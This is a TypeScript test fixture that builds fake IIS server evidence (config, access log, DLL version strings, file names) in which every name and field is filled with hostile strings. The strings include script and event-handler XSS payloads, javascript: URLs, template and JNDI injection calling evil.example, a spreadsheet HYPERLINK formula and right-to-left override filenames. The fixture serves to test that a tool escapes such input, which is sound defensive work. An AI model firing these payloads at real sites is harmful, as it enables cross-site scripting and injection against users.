import { readFileSync } from 'node:fs';
import path from 'node:path';
import { makeTree, type MadeTree, type Tree } from '../../helpers/tree.ts';

const FIXTURES = path.resolve(import.meta.dirname, '../../fixtures/components/bin/x64');

/** Texts that try to become markup, script, style, a link or another reading direction. `hit()` is counted by the test. */
export const PAYLOADS: readonly string[] = [
  '<script>hit()</script>', '"><script>hit()</script>', "'><script>hit()</script>", '</title><script>hit()</script>', '</textarea><script>hit()</script>', '<ScRiPt>hit()</sCrIpT>', '<scr<script>ipt>hit()</script>',
  '<img src=x onerror=hit()>', '"><img src=x onerror=hit()>', '<img/src="x"/onerror=hit()>', '<svg onload=hit()>', '<svg><script>hit()</script></svg>', '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<body onload=hit()>', '<iframe src="javascript:hit()"></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<object data="javascript:hit()"></object>', '<embed src="javascript:hit()">', '<base href="http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css">', '<style>@import "http://evil.example/x.css"</style>', '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<form action="http://evil.example/"><button>x</button></form>', '<a href="javascript:hit()">x</a>',
  'javascript:hit()', 'data:text/html,<script>hit()</script>', 'http://evil.example/beacon', '//evil.example/beacon', '" onmouseover="hit()', "' onfocus='hit()' autofocus='", '{{constructor.constructor("hit()")()}}', '${hit()}', '%3Cscript%3Ehit()%3C/script%3E', '&lt;script&gt;hit()&lt;/script&gt;',
  '${jndi:ldap://evil.example/a}', '__proto__', 'constructor', '=HYPERLINK("http://evil.example/")', 'safe\u202Elld.exe', 'zero\u200Bwidth', 'a\u2066b\u2069c', '\u00ADsoft',
];

const xml = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
const at = (i: number): string => PAYLOADS[i % PAYLOADS.length] ?? '';

function applicationHost(): string {
  const rows = (make: (payload: string, i: number) => string): string => PAYLOADS.map(make).join('\n');
  return `<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.applicationHost>
<applicationPools><add name="Pool" managedRuntimeVersion="v4.0" /><add name="${xml(at(0))}" /></applicationPools>
<sites>
<site name="${xml(at(1))}" id="1"><application path="/" applicationPool="${xml(at(0))}"><virtualDirectory path="/" physicalPath="C:\\web" /></application><application path="/${xml(at(7))}" applicationPool="Pool"><virtualDirectory path="/" physicalPath="C:\\web\\${xml(at(30))}" /></application><bindings><binding protocol="http" bindingInformation="*:80:${xml(at(8))}" /></bindings></site>
<site name="${xml(at(39))}" id="2"><application path="/"><virtualDirectory path="/" physicalPath="C:\\web2" /></application></site>
</sites></system.applicationHost>
<system.webServer>
<globalModules>
<add name="Filter" image="C:\\web\\bin\\shopcmp.dll" />
${rows((p, i) => `<add name="${xml(p)}" image="C:\\ProgramData\\${i}\\${xml(at(i + 3))}.dll" />`)}
</globalModules>
<isapiFilters>${rows((p, i) => `<filter name="${xml(p)} ${i}" path="${xml(at(i + 5))}" />`)}</isapiFilters>
<modules>${rows((p) => `<add name="${xml(p)}" />`)}
${rows((p, i) => `<add name="managed ${i} ${xml(p)}" type="${xml(at(i + 11))}, Evil" preCondition="${xml(at(i + 2))}" />`)}</modules>
<handlers>${rows((p, i) => `<add name="h${i} ${xml(p)}" path="${xml(p)}" verb="${xml(at(i + 1))}" type="${xml(at(i + 9))}" />`)}</handlers>
</system.webServer></configuration>
`;
}

/** In a log a space is written as +; a line break cannot be written at all. */
const logged = (text: string): string => text.replaceAll(' ', '+');

function log(): string {
  const rows = PAYLOADS.map((p, i) => `2026-03-02 14:${String(i % 60).padStart(2, '0')}:00 192.0.2.1 GET /${logged(p)} ${logged(at(i + 1))} 80 ${logged(at(i + 2))} 203.0.113.${i} ${logged(at(i + 3))} ${logged(at(i + 4))} 200 0 0 ${i}`);
  return `#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-03-02 14:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n${rows.join('\r\n')}\r\n`;
}

/** A DLL whose version strings are payloads: texts of the same length in the place of its own. */
function dll(): Uint8Array {
  const bytes = Buffer.from(readFileSync(path.join(FIXTURES, 'shopcmp.dll')));
  for (const [own, payload] of [['Shop response compression', '<img src=x onerror=hit()>'], ['Response compression filter', '<svg onload=hit()>\u202E safe'], ['Shop Systems', '\u202Ejs\u200B{{1}}']] as const) {
    const found = bytes.indexOf(Buffer.from(own, 'utf16le'));
    if (found < 0) throw new Error(`The fixture does not hold ${own}`);
    bytes.write(payload.padEnd(own.length), found, 'utf16le');
  }
  return bytes;
}

/** Evidence of a server where every name, path, type, request and version string is hostile. */
export function hostileEvidence(): Promise<MadeTree> {
  const tree: Record<string, Tree[string]> = {
    'C/Windows/System32/inetsrv/config/applicationHost.config': applicationHost(),
    'C/inetpub/logs/LogFiles/W3SVC1/u_ex260302.log': log(),
    'C/web/bin/shopcmp.dll': dll(),
    'C/web/web.config': `<?xml version="1.0"?><configuration><system.webServer><modules><add name="x" type="${xml(at(0))}" /></modules><unclosed "></system.webServer>`,
  };
  for (const [i, payload] of PAYLOADS.entries()) {
    if (!payload.includes('/')) tree[`C/web/bin/${i} ${payload}.dll`] = dll();
  }
  return makeTree(tree);
}
